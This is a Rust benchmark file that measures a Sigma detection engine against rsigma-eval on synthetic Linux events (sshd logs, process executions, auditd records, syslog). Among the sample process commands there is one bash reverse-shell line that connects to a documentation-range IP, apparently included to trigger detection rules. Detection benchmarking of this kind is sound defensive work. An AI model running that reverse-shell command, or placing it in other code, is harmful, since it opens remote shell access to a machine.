//! Throughput of the Sigma engine on a realistic event mix, side by side with `rsigma-eval`.
//!
//! Rules: SigmaHQ `rules/linux` plus the shipped pack. Events, per iteration: the 2,000 sshd
//! lines of the shared OpenSSH log, 2,000 process executions, 1,000 auditd records and 1,000
//! cron/systemd syslog lines. Our engine runs the whole path (routing, detection, correlation,
//! suppression); rsigma-eval runs detection with its own log-source filter
//! (`evaluate_with_logsource`), over the same fields as a JSON object.
//!
//! Run: `cargo bench -p ironpost-sigma --bench engine`.

use std::hint::black_box;
use std::path::{Path, PathBuf};

use chrono::{Duration, TimeZone, Utc};
use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use ironpost_core::Event;
use ironpost_core::event::{LogRecord, ProcessEvent};
use ironpost_sigma::{EngineConfig, Loader, LogSourceMap};

const SIGMA_LINUX: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/../../../shared/data/sigma/rules/linux"
);
const PACK: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../../rules");
const OPENSSH: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/../../../shared/data/logs/loghub/OpenSSH_2k.log"
);

fn rule_files(dir: &Path, out: &mut Vec<PathBuf>) {
    let mut entries: Vec<PathBuf> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    entries.sort();
    for p in entries {
        if p.is_dir() {
            rule_files(&p, out);
        } else if p.extension().is_some_and(|e| e == "yml") {
            out.push(p);
        }
    }
}

struct Sample {
    event: Event,
    json: serde_json::Value,
    logsource: rsigma_parser::LogSource,
}

fn logsource(category: Option<&str>, service: Option<&str>) -> rsigma_parser::LogSource {
    rsigma_parser::LogSource {
        category: category.map(str::to_owned),
        product: Some("linux".to_owned()),
        service: service.map(str::to_owned),
        ..Default::default()
    }
}

fn log_sample(
    at: i64,
    service: &str,
    format: &str,
    message: &str,
    fields: &[(&str, String)],
) -> Sample {
    let mut rec = LogRecord::new("bench", format, message);
    rec.timestamp = Utc.with_ymd_and_hms(2026, 1, 1, 0, 0, 0).unwrap() + Duration::milliseconds(at);
    rec.service = Some(service.into());
    let mut json = serde_json::Map::new();
    json.insert("message".into(), message.into());
    for (k, v) in fields {
        rec.fields.insert(*k, v.as_str());
        json.insert((*k).into(), v.clone().into());
    }
    let ls = if format == "auditd" {
        logsource(None, Some("auditd"))
    } else {
        logsource(None, Some(service))
    };
    Sample {
        event: Event::Log(rec),
        json: json.into(),
        logsource: ls,
    }
}

fn corpus() -> Vec<Sample> {
    let mut out = Vec::new();
    let text = std::fs::read_to_string(OPENSSH).unwrap();
    for (i, line) in text.lines().enumerate() {
        let msg = line.split_once("]: ").map(|(_, m)| m).unwrap_or(line);
        let mut fields = Vec::new();
        if let Some(ip) = msg
            .split(" from ")
            .nth(1)
            .and_then(|r| r.split_whitespace().next())
        {
            fields.push(("src_ip", ip.to_owned()));
        }
        out.push(log_sample(i as i64 * 500, "sshd", "rfc3164", msg, &fields));
    }
    let commands = [
        ("/usr/bin/ls", "ls -la /var/log"),
        ("/usr/bin/ps", "ps aux"),
        ("/usr/bin/systemctl", "systemctl status nginx"),
        ("/usr/bin/python3", "python3 /opt/app/server.py --port 8080"),
        (
            "/usr/bin/curl",
            "curl -fsS https://updates.example.org/manifest.json",
        ),
        ("/usr/bin/bash", "bash -c echo $HOME"),
        ("/usr/bin/grep", "grep -r error /var/log/syslog"),
        ("/usr/bin/cat", "cat /etc/hostname"),
        ("/usr/sbin/sshd", "sshd: bob [priv]"),
        ("/usr/bin/git", "git pull --rebase"),
        ("/usr/bin/tar", "tar czf /backup/etc.tgz /etc"),
        ("/usr/bin/crontab", "crontab -l"),
        ("/usr/bin/nc", "nc -zv db.internal 5432"),
        ("/usr/bin/find", "find /tmp -mtime +7 -delete"),
        ("/usr/bin/wget", "wget -q https://example.org/file.tar.gz"),
        ("/usr/bin/bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
    ];
    for i in 0..2000 {
        let (image, cmd) = commands[i % commands.len()];
        let ev = ProcessEvent {
            timestamp: Utc.with_ymd_and_hms(2026, 1, 1, 0, 0, 0).unwrap()
                + Duration::milliseconds(i as i64 * 300),
            pid: 1000 + i as u32,
            ppid: 1,
            uid: 1000,
            gid: 1000,
            user: Some("bob".into()),
            image: image.into(),
            argv: cmd.split(' ').map(str::to_owned).collect(),
            argv_truncated: false,
            command_line: cmd.into(),
            cwd: Some("/home/bob".into()),
            parent_image: Some("/usr/bin/bash".into()),
            parent_command_line: Some("-bash".into()),
            cgroup_id: 1,
            container: None,
        };
        let json = serde_json::json!({
            "Image": image, "CommandLine": cmd, "ParentImage": "/usr/bin/bash",
            "ParentCommandLine": "-bash", "User": "bob", "CurrentDirectory": "/home/bob",
        });
        out.push(Sample {
            event: Event::Process(ev),
            json,
            logsource: logsource(Some("process_creation"), None),
        });
    }
    let audit: [&[(&str, &str)]; 4] = [
        &[
            ("type", "SYSCALL"),
            ("syscall", "59"),
            ("exe", "/usr/bin/ls"),
            ("comm", "ls"),
            ("key", "exec"),
        ],
        &[
            ("type", "EXECVE"),
            ("argc", "2"),
            ("a0", "ls"),
            ("a1", "-la"),
        ],
        &[
            ("type", "PATH"),
            ("name", "/etc/hosts"),
            ("nametype", "NORMAL"),
        ],
        &[("type", "USER_LOGIN"), ("acct", "bob"), ("res", "success")],
    ];
    for i in 0..1000 {
        let f: Vec<(&str, String)> = audit[i % audit.len()]
            .iter()
            .map(|(k, v)| (*k, (*v).to_owned()))
            .collect();
        let msg: Vec<String> = f.iter().map(|(k, v)| format!("{k}={v}")).collect();
        out.push(log_sample(
            i as i64 * 700,
            "auditd",
            "auditd",
            &msg.join(" "),
            &f,
        ));
    }
    for i in 0..1000 {
        let (svc, msg) = if i % 2 == 0 {
            (
                "cron",
                "(root) CMD (cd / && run-parts --report /etc/cron.hourly)",
            )
        } else {
            ("systemd", "Started Session 42 of user bob.")
        };
        out.push(log_sample(i as i64 * 900, svc, "rfc3164", msg, &[]));
    }
    out
}

fn bench(c: &mut Criterion) {
    let mut files = Vec::new();
    rule_files(Path::new(SIGMA_LINUX), &mut files);
    rule_files(Path::new(PACK), &mut files);
    let texts: Vec<String> = files
        .iter()
        .map(|f| std::fs::read_to_string(f).unwrap())
        .collect();
    let mut loader = Loader::new(LogSourceMap::default_map(), EngineConfig::default());
    for (f, t) in files.iter().zip(&texts) {
        loader.add_file(&f.display().to_string(), t);
    }
    let (mut engine, report) = loader.build();
    assert!(report.loaded >= 200);

    let mut theirs = rsigma_eval::Engine::new();
    for t in &texts {
        if let Ok(col) = rsigma_parser::parse_sigma_yaml(t) {
            for r in &col.rules {
                let _ = theirs.add_rule(r);
            }
        }
    }
    let samples = corpus();
    let events: Vec<&Event> = samples.iter().map(|s| &s.event).collect();

    let mut group = c.benchmark_group("sigma_linux_plus_pack");
    group.throughput(Throughput::Elements(samples.len() as u64));
    group.bench_function("ironpost", |b| {
        b.iter(|| {
            let mut alerts = 0u64;
            for e in &events {
                engine.process(e, &mut |_| alerts += 1);
            }
            black_box(alerts)
        })
    });
    group.bench_function("rsigma-eval", |b| {
        b.iter(|| {
            let mut matches = 0usize;
            for s in &samples {
                let ev = rsigma_eval::JsonEvent::borrow(&s.json);
                matches += theirs.evaluate_with_logsource(&ev, &s.logsource).len();
            }
            black_box(matches)
        })
    });
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
